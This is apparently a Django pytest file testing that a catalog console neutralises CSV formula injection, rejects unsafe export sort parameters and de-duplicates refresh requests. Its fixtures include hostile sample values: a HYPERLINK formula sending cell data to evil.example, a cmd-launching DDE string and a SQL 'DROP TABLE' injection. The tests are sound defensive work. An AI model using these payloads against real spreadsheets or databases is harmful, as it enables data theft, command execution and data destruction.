"""Catalog screens an attacker with a Viewer account could misuse: the item export as a
spreadsheet formula carrier, its ?sort= as a whole-mirror sort, and "Refresh from Braze" as
a way to fill the workers' queue."""

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pytest_django.fixtures import Settings

from catalog_bulk.models import JobState
from catalog_bulk.services import bulk_job_parse, bulk_job_upload
from catalogs.models import Catalog
from console.audit.models import AuditEntry
from console.roles import Role
from tests.factories import CatalogFactory, catalog_item_create, user_with_role

pytestmark = pytest.mark.django_db

ClientFor = Callable[[Role | None], Client]

# Every cell start OWASP names, and a value that already begins with a quote.
FORMULAS = {
    "f-eq": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "f-plus": "+1+cmd|' /C calc'!A0",
    "f-minus": "-2+3",
    "f-at": "@SUM(A1:A9)",
    "f-tab": "\t=1+1",
    "f-cr": "\r=1+1",
    "f-quoted": "'=already quoted",
    "plain": "Mug",
}


@pytest.fixture(autouse=True)
def _no_refresh_pending() -> None:
    from django.core.cache import cache

    from catalogs.services import _list_refresh_pending_key

    cache.delete(_list_refresh_pending_key())


class _NoCatalogs:
    def catalog_list(self) -> list[Any]:
        return []


@pytest.fixture
def shop(db: None) -> Catalog:
    catalog: Catalog = CatalogFactory.create(name="shop")
    for item_id, name in FORMULAS.items():
        catalog_item_create(catalog, item_id, name=name, price=-5, in_stock=True)
    catalog.refresh_from_db()
    return catalog


def _export(client: Client, catalog: Catalog, **params: str) -> Any:
    return client.get(reverse("catalogs:item_export", args=[catalog.name]), params)


def test_the_item_export_makes_every_formula_like_cell_inert_text(
    client_for: ClientFor, shop: Catalog
) -> None:
    response = _export(client_for(Role.VIEWER), shop)
    body = b"".join(response.streaming_content).decode()
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(body, newline=""))}
    for item_id, name in FORMULAS.items():
        shown = rows[item_id]["name"]
        if item_id == "plain":
            assert shown == name
        else:
            assert shown == "'" + name, item_id
    # Numbers stay numbers: a spreadsheet reads -5 as minus five, not as a formula.
    assert rows["plain"]["price"] == "-5"


def test_the_exported_file_uploaded_again_gives_back_the_original_values(
    client_for: ClientFor, shop: Catalog, settings: Settings, tmp_path: Path
) -> None:
    settings.MEDIA_ROOT = tmp_path
    body = b"".join(_export(client_for(Role.VIEWER), shop).streaming_content)
    assert b"'=HYPERLINK" in body  # the file holds the inert form
    editor = user_with_role(Role.EDITOR)
    job = bulk_job_upload(
        actor=editor,
        catalog=shop,
        operation="upsert",
        upload=SimpleUploadedFile("shop.csv", body),
    )
    job = bulk_job_parse(job_id=job.pk)
    assert job.state == JobState.READY
    # Every value read back equals the mirror's: nothing would be sent.
    assert (job.n_unchanged, job.n_create, job.n_update, job.n_error) == (len(FORMULAS), 0, 0, 0)


@pytest.mark.parametrize(
    "sort",
    ["colour", "-colour", "price\n", "name'); DROP TABLE catalogs_catalogitem; --", "id,price"],
)
def test_an_export_sorted_by_anything_but_a_field_is_refused_with_a_message(
    client_for: ClientFor, shop: Catalog, sort: str
) -> None:
    client = client_for(Role.VIEWER)
    response = _export(client, shop, sort=sort)
    assert response.status_code == 302
    assert response["Location"] == reverse("catalogs:items", args=["shop"])
    page = client.get(response["Location"]).content.decode()
    assert "can only be sorted by id or by a field of this catalog" in page


@pytest.mark.parametrize("sort", ["price", "-price", "id", "-id", "name"])
def test_an_export_sorted_by_a_field_or_the_id_is_streamed(
    client_for: ClientFor, shop: Catalog, sort: str
) -> None:
    response = _export(client_for(Role.VIEWER), shop, sort=sort)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")


def test_refresh_from_braze_clicked_twice_queues_one_task(
    client_for: ClientFor,
    db: None,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Callable[..., Any],
) -> None:
    from catalogs import tasks

    queued: list[tuple[Any, ...]] = []
    monkeypatch.setattr(tasks.catalog_list_refresh_task, "delay", lambda *a: queued.append(a))
    client = client_for(Role.VIEWER)
    url = reverse("catalogs:list_refresh")
    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(url)
    with django_capture_on_commit_callbacks(execute=True):
        second = client.post(url)
    assert (first.status_code, second.status_code) == (302, 302)
    assert queued == [("default",)]  # one refresh, of the request's workspace
    # One request, one audit entry: repeated clicks do not grow the trail either.
    assert AuditEntry.objects.filter(action="catalog.list_refresh_requested").count() == 1
    page = client.get(second["Location"]).content.decode()
    assert "already queued" in page


def test_once_the_refresh_has_started_the_next_click_queues_again(
    client_for: ClientFor,
    db: None,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Callable[..., Any],
) -> None:
    from catalogs import services, tasks

    queued: list[tuple[Any, ...]] = []
    monkeypatch.setattr(tasks.catalog_list_refresh_task, "delay", lambda *a: queued.append(a))
    client = client_for(Role.VIEWER)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("catalogs:list_refresh"))
    services.catalog_list_refresh_run(client=_NoCatalogs())  # type: ignore[arg-type]
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("catalogs:list_refresh"))
    assert len(queued) == 2
